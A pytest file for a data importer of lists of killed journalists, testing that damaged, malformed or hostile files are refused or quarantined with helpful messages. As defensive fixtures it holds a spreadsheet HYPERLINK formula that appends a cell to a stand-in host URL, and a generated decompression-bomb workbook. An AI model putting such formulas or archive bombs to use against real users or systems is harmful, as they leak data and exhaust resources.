"""A monitor is given a bad file, and is told what is wrong and what to do."""

import csv
import gzip
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import xlsxwriter  # type: ignore[import-untyped]
import xlwt  # type: ignore[import-untyped]
from django.db import connection

from tests.journeys.terminal import another_process, endimpunity, taken_in

pytestmark = pytest.mark.django_db

HEADERS = ("name", "date", "country", "outlet")
COLUMNS = """
[columns]
name = "name"
date = "date"
country = "country"
outlets = "outlet"
"""
WHOSE = ("--publisher", "LISTA", "--stated-on", "2024-03-12")
# What holds a list's content, and what is made of it. Refusals are kept elsewhere.
CONTENT = (
    "sources_row",
    "sources_sourcerecord",
    "sources_part",
    "sources_recordversion",
    "sources_sighting",
    "sources_continuation",
    "sources_withdrawal",
    "cases_case",
)


def person(number):
    """Return an entry of an invented list; no name is like another's."""
    name = "".join(
        "bdfglmnrst"[int(figure)] + "ao"[number % 2] for figure in f"{number:03}"
    )
    return [
        f"{name} Ivented{name}".title(),
        f"{number % 28 + 1} May 2015",
        "Mali",
        "Radio M",
    ]


def entries(count=40):
    return [person(number) for number in range(count)]


def text_of(rows, headers=HEADERS):
    text = io.StringIO()
    csv.writer(text).writerows([headers, *rows])
    return text.getvalue()


@pytest.fixture
def write(tmp_path):
    """Return how a file is written, and where."""

    def written(content, name="list.csv"):
        path = tmp_path / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return path

    return written


@pytest.fixture
def mapping(write):
    return write(COLUMNS, "lista.toml")


@pytest.fixture
def before(write, mapping):
    """Return what the tables hold once an earlier, sound file of the list is in."""
    sound = write(text_of(entries(5)), "sound.csv")
    taken_in(
        sound, "--publisher", "LISTA", "--stated-on", "2024-01-01", "--mapping", mapping
    )
    return content()


def content():
    with connection.cursor() as cursor:
        held = {}
        for table in CONTENT:
            cursor.execute(f"SELECT count(*) FROM {table}")
            held[table] = cursor.fetchone()[0]
    return held


@pytest.fixture
def refused(before, mapping, home):
    """Return how a file is refused: with a sentence, whole, and its bytes kept."""

    def refuse(path, *words):
        given = words or ("--mapping", mapping)
        said = endimpunity("import", path, *WHOSE, *given, "--json")
        assert said.status == 1, (said.status, said.err, said.out)
        reason = said.facts["refused"]
        assert set(said.facts) == {"refused"}
        assert " ".join(reason.split()) in said.sentence
        assert "Traceback" not in said.err
        assert reason.endswith((".", "!", "?"))
        assert content() == before
        kept = hashlib.sha256(path.read_bytes()).hexdigest()
        assert (home / "blobs" / kept[:2] / kept[2:]).read_bytes() == path.read_bytes()
        lines = endimpunity("snapshots", "--refused", "--json").facts
        assert [(one["sha256"], one["refusal"]) for one in lines] == [(kept, reason)]
        assert len(endimpunity("snapshots", "--json").facts) == 1
        return said

    return refuse


@pytest.fixture
def wrong_call(before):
    """Return how words that make no sense end: with a sentence and status 2."""

    def wrong(*words):
        said = endimpunity("import", *words, "--json")
        assert said.status == 2, (said.status, said.err, said.out)
        assert said.out == ""
        assert "Traceback" not in said.err
        assert content() == before
        assert len(endimpunity("snapshots", "--json").facts) == 1
        return said.sentence

    return wrong


# Files that are no list.


def test_a_page_in_place_of_a_list_is_refused(write, refused):
    said = refused(write("<!DOCTYPE html>\n<html><body>Not found</body></html>"))
    assert "web page (HTML)" in said.sentence
    assert "Download the file itself" in said.sentence


def test_a_page_found_out_late_is_refused(write, refused):
    page = "<html>" + "<tr><td>a, b, c</td></tr>\n" * 3000 + "</html>"
    assert "web page" in refused(write(page, "list.xlsx")).sentence


@pytest.mark.parametrize("nothing", [b"", b"\n \n\r\n", b"\xef\xbb\xbf", b"\xff\xfe"])
def test_an_empty_file_is_refused(write, refused, nothing):
    assert "empty; fetch it again" in refused(write(nothing)).sentence


def test_headers_alone_are_refused(write, refused):
    assert "no data rows" in refused(write(text_of([]))).sentence


def test_zero_bytes_are_refused(write, refused):
    assert "binary file" in refused(write(b"\x00" * 50_000)).sentence


@pytest.mark.parametrize(
    ("opening", "what"),
    [
        (gzip.compress(b"name\n", mtime=0), "unpack it first"),
        (b"%PDF-1.7\n", "a PDF"),
        (b"\x89PNG\r\n\x1a\n", "a picture"),
        (b"SQLite format 3\x00", "a database"),
    ],
)
def test_another_kind_of_file_is_refused_by_its_name(write, refused, opening, what):
    assert what in refused(write(opening + b"\x00" * 100)).sentence


def test_an_archive_that_is_no_workbook_is_refused(write, refused):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("list.csv", text_of(entries()))
    said = refused(write(packed.getvalue(), "list.xlsx"))
    assert "unpack it first" in said.sentence


def test_the_list_within_the_archive_comes_in_as_the_sentence_says(write, mapping):
    facts = taken_in(write(text_of(entries())), *WHOSE, "--mapping", mapping)
    assert facts["imported"] == 40


# Text that is damaged.


def test_a_wrong_encoding_is_refused_until_the_mapping_states_the_right_one(
    write, refused
):
    rows = [[f"{name} é", *rest] for name, *rest in entries()]
    path = write(text_of(rows).encode("cp1252"))
    wrong = write('[file]\nencoding = "utf-8"' + COLUMNS, "wrong.toml")
    said = refused(path, "--mapping", wrong)
    assert "a mapping may state its encoding" in said.sentence
    right = write('[file]\nencoding = "cp1252"' + COLUMNS, "right.toml")
    facts = taken_in(path, *WHOSE, "--mapping", right)
    assert (facts["rows"], facts["quarantined"]) == (40, 0)
    assert "é" in endimpunity("records", *WHOSE[:2], "--json").out


def test_a_file_damaged_here_and_there_is_refused_until_the_loss_is_accepted(
    write, refused, mapping
):
    lines = text_of(entries()).encode().splitlines(keepends=True)
    for row in (3, 9, 20):
        lines[row] = b"\xb4\xe8" + lines[row]
    path = write(b"".join(lines))
    stated = write('[file]\nencoding = "utf-8"' + COLUMNS, "stated.toml")
    said = refused(path, "--mapping", stated)
    assert (
        "3 of 40 rows cannot be read (7.5%; at most 5% are accepted)" in said.sentence
    )
    advice = said.advised(r"--accept-quarantine \d+%")
    facts = taken_in(path, *WHOSE, "--mapping", stated, *advice)
    assert (facts["rows"], facts["quarantined"]) == (40, 3)
    found = endimpunity("quarantine", *WHOSE, "--json").facts
    assert [one["row"] for one in found] == [3, 9, 20]


def test_zero_bytes_in_a_row_put_that_row_in_quarantine(write, mapping, before):
    rows = entries()
    rows[7][3] = "Radio\x00M"
    path = write(text_of(rows))
    said = endimpunity("import", path, *WHOSE, "--mapping", mapping)
    assert said.status == 0
    assert "control characters" in said.sentence
    in_quarantine(said, [8])


def test_a_file_cut_off_in_a_row_keeps_that_row_in_quarantine(write, mapping, before):
    whole = text_of(entries())
    path = write(whole[: whole.rindex(",Mali")])
    said = endimpunity("import", path, *WHOSE, "--mapping", mapping)
    assert said.status == 0
    assert "cut off" in said.sentence
    in_quarantine(said, [40])


def in_quarantine(said, rows):
    """Type the command that the sentence advises, and find these rows."""
    listing = said.advised(r"endimpunity quarantine --publisher \S+ --stated-on \S+")
    found = endimpunity(*listing[1:], "--json")
    assert found.status == 0
    assert [one["row"] for one in found.facts] == rows
    return found.facts


def test_a_quotation_mark_never_closed_is_refused(write, refused):
    broken = text_of(entries()).replace("Mali", '"Mali', 1)
    said = refused(write(broken))
    assert "quotation mark in row 1 is never closed" in said.sentence


def test_json_cut_off_is_refused(write, refused):
    whole = json.dumps([dict(zip(HEADERS, row, strict=True)) for row in entries()])
    said = refused(write(whole[:-400], "list.json"))
    assert "cut off or damaged" in said.sentence
    assert "fetch the file again" in said.sentence


def test_a_workbook_cut_off_is_refused(write, refused, workbook):
    whole = workbook([HEADERS, *entries()]).read_bytes()
    said = refused(write(whole[: len(whole) // 2], "half.xlsx"))
    assert "The workbook is damaged" in said.sentence


# Spreadsheets as people make them.


@pytest.fixture
def workbook(tmp_path):
    def made(rows, name="list.xlsx"):
        path = tmp_path / name
        book = (xlwt if name.endswith(".xls") else xlsxwriter).Workbook(
            *([] if name.endswith(".xls") else [path])
        )
        add = book.add_sheet if name.endswith(".xls") else book.add_worksheet
        sheet = add("List")
        for at, row in enumerate(rows):
            for column, cell in enumerate(row):
                sheet.write(at, column, cell)
        if name.endswith(".xls"):
            book.save(str(path))
        else:
            book.close()
        return path

    return made


@pytest.mark.parametrize("name", ["list.xlsx", "list.xls"])
def test_titles_totals_and_repeated_headers_are_skipped_and_counted(
    workbook, mapping, before, name
):
    some = entries(30)
    rows = [
        ["Journalists killed, as kept by the desk"],
        [],
        HEADERS,
        *some[:10],
        ["Total", "", "", 10],
        ["2016"],
        HEADERS,
        *some[10:],
        ["Grand total: 30"],
        ["Source: the desk"],
    ]
    facts = taken_in(workbook(rows, name), *WHOSE, "--mapping", mapping)
    # Five of them were in the earlier file.
    assert (facts["imported"], facts["unchanged"]) == (25, 5)
    assert (facts["quarantined"], facts["skipped"]) == (0, 5)
    assert {reason: len(rows) for reason, rows in facts["skipping"].items()} == {
        "total row": 2,
        "section title": 1,
        "repeated header row": 1,
        "note": 1,
    }


def test_a_formula_is_kept_as_text_in_quarantine_and_never_run(write, mapping, before):
    rows = entries()
    rows[3][0] = '=HYPERLINK("http://192.0.2.1/"&A1,"name")'
    path = write(text_of(rows))
    said = endimpunity("import", path, *WHOSE, "--mapping", mapping)
    assert said.status == 0
    assert "formula" in said.sentence
    [found] = in_quarantine(said, [4])
    assert found["cells"]["name"] == rows[3][0]


def test_a_formula_in_a_workbook_is_read_as_what_it_shows(tmp_path, mapping, before):
    path = tmp_path / "list.xlsx"
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet()
    for at, row in enumerate([HEADERS, *entries()]):
        sheet.write_row(at, 0, row)
    sheet.write_formula(4, 2, '=CONCATENATE("Ma","li")', None, "Mali")
    book.close()
    facts = taken_in(path, *WHOSE, "--mapping", mapping)
    assert (facts["quarantined"], facts["country_unknown"]) == (0, 0)


def test_columns_that_shifted_wait_in_quarantine_until_they_are_corrected(
    write, refused, mapping
):
    rows = entries()
    for at in (4, 5, 6):
        rows[at].insert(1, "second name")
    path = write(text_of(rows))
    said = refused(path)
    assert "columns are shifted" in said.sentence
    advice = said.advised(r"--accept-quarantine \d+%")
    said = endimpunity("import", path, *WHOSE, "--mapping", mapping, *advice)
    found = in_quarantine(said, [5, 6, 7])
    right = dict(zip(HEADERS, person(4), strict=True))
    assert found[0]["cells"] != right
    corrections = [f"{header}={text}" for header, text in right.items()]
    corrected = endimpunity(
        *("quarantine", *WHOSE, "--row", 5, "--correct", *corrections),
        *("--reason", "a cell too many"),
    )
    assert corrected.status == 0
    retry = corrected.advised(r"endimpunity quarantine \S+ \S+ \S+ \S+ --retry")
    retried = endimpunity(*retry[1:], "--json")
    assert retried.facts["imported"] == [5]
    assert sorted(retried.facts["left"]) == ["6", "7"]
    in_quarantine(said, [6, 7])


def test_of_two_columns_with_one_header_each_can_be_named(write, before):
    rows = [[*row, f"Native{at}"] for at, row in enumerate(entries())]
    path = write(text_of(rows, (*HEADERS, "name")))
    said = write(COLUMNS + 'name_native = "name#2"', "second.toml")
    facts = taken_in(path, *WHOSE, "--mapping", said)
    assert facts["quarantined"] == 0
    records = endimpunity("records", *WHOSE, "--json").out.splitlines()
    first = json.loads(records[0])
    assert (first["name"], first["name_native"]) == (person(0)[0], "Native0")


def test_a_column_that_is_not_there_is_refused_with_those_that_are(write, refused):
    path = write(text_of(entries(), ("name", "date", "country", "name")))
    said = refused(path)
    assert '"outlet"' in said.sentence
    for header in ("name", "date", "country", "name#2"):
        assert f'"{header}"' in said.sentence


def test_columns_of_no_known_layout_are_refused_with_what_to_write(
    write, refused, before, mapping
):
    path = write(text_of(entries()))
    said = refused(path, "--accept-quarantine", "1%")
    assert "--mapping" in said.sentence
    howto = re.search(r"docs/\S+\.md", said.sentence)
    assert howto
    root = Path(__file__).resolve().parents[2]
    assert (root / howto[0]).is_file()
    assert taken_in(path, *WHOSE, "--mapping", mapping)["rows"] == 40


# Things that no list holds.


def test_an_archive_made_to_burst_is_refused(write, refused):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            for _ in range(24):
                sheet.write(b"0" * (1 << 20))
    said = refused(write(packed.getvalue(), "list.xlsx"))
    assert "made to do harm" in said.sentence


HUGE = 200 * 1024 * 1024
# Of a process that imports a sound list, about 130 MB; the cell is not held twice.
MOST_MEMORY = 400 * 1024 * 1024

IN_LITTLE_MEMORY = """
import resource, sys
from endimpunity.doors.terminal import main
try:
    status = main.main(sys.argv[1:])
except SystemExit as ended:
    status = ended.code
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024)
sys.exit(status)
"""


# Each: how the file begins, what the cell repeats, how the file ends.
CELLS = {
    "csv": (b"name,date,country,outlet\nA,2 May 2015,Mali,", b"abcdefgh", b"\n"),
    "quoted": (b'name,date,country,outlet\nA,2 May 2015,Mali,"', b"abcdefg\n", b'"\n'),
    "json": (b'[{"name": "A", "outlet": "', b"abcdefgh", b'"}]'),
}


@pytest.mark.slow
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
@pytest.mark.parametrize(
    "kind",
    [
        "csv",
        *(pytest.param(kind, marks=pytest.mark.proof) for kind in ("quoted", "json")),
    ],
)
def test_a_cell_of_200_megabytes_is_refused_in_bounded_memory(kind, tmp_path, mapping):
    path = tmp_path / "list"
    opening, piece, closing = CELLS[kind]
    with path.open("wb") as file:
        file.write(opening)
        for _ in range(HUGE // (1 << 20)):
            file.write(piece * (1 << 17))
        file.write(closing)
    run = subprocess.run(
        [
            *(sys.executable, "-c", IN_LITTLE_MEMORY, "import", path, *WHOSE),
            *("--mapping", mapping, "--json"),
        ],
        capture_output=True,
        check=False,
        env=another_process(tmp_path),
        text=True,
    )
    assert run.returncode == 1, run.stderr
    assert "Traceback" not in run.stderr
    said, peak = run.stdout.splitlines()
    assert "longer than" in json.loads(said)["refused"]
    assert int(peak) < MOST_MEMORY


def test_a_file_larger_than_any_list_is_refused_unread(tmp_path, before, settings):
    path = tmp_path / "list.csv"
    path.write_bytes(b"name\n")
    os.truncate(path, settings.ENDIMPUNITY_IMPORT_LARGEST_FILE + 1)
    said = endimpunity("import", path, *WHOSE, "--json")
    assert said.status == 1
    assert "ENDIMPUNITY_IMPORT_LARGEST_FILE raises the limit" in said.facts["refused"]
    assert content() == before


# Rows that cannot be.


@pytest.mark.parametrize(
    ("right", "wrong", "why"),
    [
        (
            "country=Mali",
            "country=Freedonia",
            '"Freedonia" is no country that is known',
        ),
        ("date=12 May 2015", "date=3 May 2025", "after the day of the list"),
    ],
)
def test_a_row_that_cannot_be_waits_in_quarantine_until_it_is_corrected(
    write, mapping, right, wrong, why
):
    rows = entries()
    header, _, text = wrong.partition("=")
    rows[11][HEADERS.index(header)] = text
    said = endimpunity("import", write(text_of(rows)), *WHOSE, "--mapping", mapping)
    assert said.status == 0
    assert "Row 12: " in said.sentence
    assert why in said.sentence
    in_quarantine(said, [12])
    corrected = endimpunity(
        *("quarantine", *WHOSE, "--row", 12, "--correct", right),
        *("--reason", "a misprint"),
    )
    retry = corrected.advised(r"endimpunity quarantine \S+ \S+ \S+ \S+ --retry")
    assert endimpunity(*retry[1:], "--json").facts == {"imported": [12], "left": {}}
    in_quarantine(said, [])


def test_an_unknown_country_comes_in_once_the_mapping_knows_it(write, mapping, before):
    rows = entries()
    rows[11][2] = "Freedonia"
    said = endimpunity("import", write(text_of(rows)), *WHOSE, "--mapping", mapping)
    assert "under [values.country] of a mapping" in said.sentence
    knowing = write(COLUMNS + '[values.country]\n"Freedonia" = "ML"', "knowing.toml")
    retried = endimpunity(
        "quarantine", *WHOSE, "--retry", "--mapping", knowing, "--json"
    )
    assert retried.facts == {"imported": [12], "left": {}}


def test_a_list_of_which_every_row_lies_in_the_future_is_refused(write, refused):
    rows = [[name, "3 May 2025", *rest] for name, _, *rest in entries()]
    said = refused(write(text_of(rows)))
    assert "40 of 40 rows cannot be read" in said.sentence
    assert "after the day of the list" in said.sentence


# Mappings.


@pytest.mark.parametrize(
    ("wrong", "why"),
    [
        (COLUMNS.replace("outlets =", "oulets ="), 'did you mean "outlets"?'),
        (COLUMNS.replace("[columns]", "[colums]"), 'did you mean "columns"?'),
        (COLUMNS + '[values.manner]\nshot = "MURDR"', 'did you mean "MURDER"?'),
        (COLUMNS + "[dates", "is no TOML"),
        (COLUMNS + '[dates]\norder = "MYD"', "MDY, DMY, YMD"),
        (COLUMNS + '[file]\nencoding = "utf-9"', 'encoding "utf-9"'),
    ],
)
def test_a_mapping_with_a_typo_is_refused_with_what_is_allowed(
    write, before, mapping, wrong, why
):
    path = write(text_of(entries()))
    broken = write(wrong, "broken.toml")
    said = endimpunity("import", path, *WHOSE, "--mapping", broken, "--json")
    assert said.status == 1
    assert why in said.facts["refused"]
    assert "broken.toml" in said.sentence
    assert "Traceback" not in said.err
    assert content() == before
    assert taken_in(path, *WHOSE, "--mapping", mapping)["rows"] == 40


def test_a_header_with_a_typo_is_refused_with_the_near_one(write, refused):
    wrong = write(COLUMNS.replace('"outlet"', '"outlte"'), "typo.toml")
    said = refused(write(text_of(entries())), "--mapping", wrong)
    assert '"outlte"' in said.sentence
    assert '"outlet"' in said.sentence


def test_a_mapping_for_another_publisher_is_a_wrong_call(write, wrong_call):
    other = write('publisher = "LISTB"' + COLUMNS, "listb.toml")
    path = write(text_of(entries()))
    said = wrong_call(path, *WHOSE, "--mapping", other)
    assert "The mapping is for LISTB, but --publisher says LISTA" in said


@pytest.mark.parametrize("name", ["nowhere.toml", "."])
def test_a_mapping_that_is_not_there_is_a_wrong_call(write, wrong_call, tmp_path, name):
    path = write(text_of(entries()))
    said = wrong_call(path, *WHOSE, "--mapping", tmp_path / name)
    assert "cannot be opened" in said


def test_a_mapping_that_is_no_text_is_a_wrong_call(write, wrong_call):
    path = write(text_of(entries()))
    said = wrong_call(path, *WHOSE, "--mapping", write(b"\xff\xfe\x00", "m.toml"))
    assert "is not UTF-8 text" in said


# Days and publishers.


def test_another_file_for_the_same_day_is_refused_and_taken_for_another_day(
    write, mapping, before
):
    path = write(text_of(entries()))
    said = endimpunity(
        *("import", path, "--publisher", "LISTA", "--stated-on", "2024-01-01"),
        *("--mapping", mapping, "--json"),
    )
    assert said.status == 1
    assert "another file of LISTA stated on 2024-01-01" in said.facts["refused"]
    assert "sound.csv" in said.sentence
    assert content() == before
    listing = said.advised(r"endimpunity snapshots --publisher \w+")
    listed = endimpunity(*listing[1:])
    assert listed.status == 0
    assert listed.out.startswith("LISTA@2024-01-01 ")
    facts = taken_in(path, *WHOSE, "--mapping", mapping)
    assert (facts["unchanged"], facts["imported"]) == (5, 35)


def test_the_same_file_for_the_same_day_changes_nothing(before, tmp_path, mapping):
    facts = taken_in(
        *(tmp_path / "sound.csv", "--publisher", "LISTA"),
        *("--stated-on", "2024-01-01", "--mapping", mapping),
    )
    assert facts["identical"]
    assert facts["rows"] == 0
    assert content() == before


def test_a_day_still_to_come_is_refused(write, before, mapping):
    path = write(text_of(entries()))
    whose = ("--publisher", "LISTA", "--stated-on", "2999-01-01")
    said = endimpunity("import", path, *whose, "--mapping", mapping, "--json")
    assert said.status == 1
    assert "lies in the future" in said.facts["refused"]
    assert content() == before


@pytest.mark.parametrize("code", ["lista", "LISTA LISTB", "A" * 21, "", "LISTA#1"])
def test_a_code_that_is_none_is_refused(write, before, mapping, code):
    path = write(text_of(entries()))
    whose = ("--publisher", code, "--stated-on", "2024-03-12")
    said = endimpunity("import", path, *whose, "--mapping", mapping, "--json")
    assert said.status == 1
    assert "is no publisher's code" in said.facts["refused"]
    assert content() == before


# Words.


def test_a_quarantine_of_a_day_or_list_that_is_not_in_is_refused(before):
    words = ("quarantine", "--publisher", "LISTA", "--stated-on")
    said = endimpunity(*words, "2023-01-01", "--json")
    assert said.status == 1
    assert "LISTA has no file stated on 2023-01-01." in said.facts["refused"]
    assert endimpunity(*words, "2024-01-01").status == 0
    said = endimpunity("quarantine", "--publisher", "LISTC", "--json")
    assert said.status == 1
    assert "There is no list of 'LISTC' here." in said.facts["refused"]


def test_a_publisher_not_met_before_is_called_new(write, mapping):
    words = ("--publisher", "LISTA", "--mapping", mapping, "--stated-on")
    first = write(text_of(entries(5)))
    said = endimpunity("import", first, *words, "2024-01-01")
    assert "LISTA is new here: no file of it had come in before." in said.sentence
    second = write(text_of(entries(6)), "second.csv")
    said = endimpunity("import", second, *words, "2024-02-01")
    assert said.status == 0
    assert "is new here" not in said.sentence


def test_a_file_that_is_not_there_is_a_wrong_call(wrong_call, tmp_path):
    said = wrong_call(tmp_path / "nowhere.csv", *WHOSE)
    assert "nowhere.csv cannot be opened: No such file or directory." in said


def test_a_folder_is_a_wrong_call(wrong_call, tmp_path):
    assert "Is a directory" in wrong_call(tmp_path, *WHOSE)


def test_a_stream_that_ends_where_it_is_read_is_a_wrong_call(wrong_call):
    reading, writing = os.pipe()
    os.write(writing, text_of(entries()).encode())
    os.close(writing)
    try:
        said = wrong_call(f"/dev/fd/{reading}", *WHOSE)
    finally:
        os.close(reading)
    assert "save it as a file first" in said


def test_a_file_whose_name_is_no_text_comes_in(tmp_path, mapping, before):
    path = Path(os.fsdecode(os.fsencode(tmp_path) + b"/li\xb4st.csv"))
    path.write_text(text_of(entries()))
    assert taken_in(path, *WHOSE, "--mapping", mapping)["rows"] == 40


@pytest.mark.parametrize(
    ("words", "why"),
    [
        (("--stated-on", "yesterday"), "'yesterday' is no day; write it as 2024-03-12"),
        (("--colour", "blue"), "unrecognized arguments: --colour blue"),
        (("--accept-quarantine", "some"), "'some' is no share; write it as 20%"),
        (("--accept-quarantine", "120%"), "between 0% and 100%"),
        (("--accept-withdrawals", "few"), "'few' is no count"),
        (("--accept-withdrawals=-3",), "'-3' is no count"),
        (("--complete", "--scope", "CONFIRMED"), "write it as motive=CONFIRMED"),
    ],
)
def test_words_that_make_no_sense_are_a_wrong_call(write, wrong_call, words, why):
    path = write(text_of(entries()))
    assert why in wrong_call(path, *WHOSE, *words)


@pytest.mark.parametrize(
    ("words", "why"),
    [
        (("--scope", "motive=CONFIRMED"), "give --complete with it"),
        (("--complete", "--scope", "motiv=CONFIRMED"), 'did you mean "motive"?'),
        (("--complete", "--scope", "motive=CONFIRMD"), 'did you mean "CONFIRMED"?'),
        (("--complete", "--scope", "country=Freedonia"), "Freedonia"),
    ],
)
def test_a_scope_that_nothing_lies_in_is_refused(write, before, mapping, words, why):
    path = write(text_of(entries()))
    said = endimpunity("import", path, *WHOSE, "--mapping", mapping, *words, "--json")
    assert said.status == 1
    assert why in said.facts["refused"]
    assert content() == before


# Lists that would take back, or show, more than they may.


def test_a_complete_list_that_lost_its_half_is_refused_until_it_is_accepted(
    write, mapping
):
    whole = write(text_of(entries()))
    taken_in(whole, *WHOSE, "--mapping", mapping)
    held = content()
    half = write(text_of(entries(20)), "half.csv")
    whose = ("--publisher", "LISTA", "--stated-on", "2024-06-01", "--mapping", mapping)
    said = endimpunity("import", half, *whose, "--complete", "--json")
    assert said.status == 1
    assert "withdraw 20 of 40 records (50.0%)" in said.facts["refused"]
    assert content() == held
    advice = said.advised(r"--accept-withdrawals \d+")
    facts = taken_in(half, *whose, "--complete", *advice)
    assert (facts["unchanged"], facts["withdrawn"]) == (20, 20)


def test_a_list_that_may_not_be_shown_is_in_and_shown_once_its_licence_is_said(
    write, mapping
):
    path = write(text_of(entries()))
    words = ("import", path, *WHOSE, "--publish", "--json", "--mapping")
    said = endimpunity(*words, mapping)
    assert said.status == 1
    assert "its licence policy is NONE" in said.facts["refused"]
    assert "The list is in" in said.facts["refused"]
    assert len(endimpunity("records", *WHOSE, "--json").out.splitlines()) == 40
    licence = said.advised('licence = "[a-z-]+"')
    section = '[publisher]\ncode = "LISTA"\n' + licence[0] + f' = "{licence[2]}"'
    allowing = write(section + COLUMNS, "allowing.toml")
    said = endimpunity(*words, allowing)
    assert said.status == 0
    assert (said.facts["identical"], said.facts["published"]) == (True, 40)
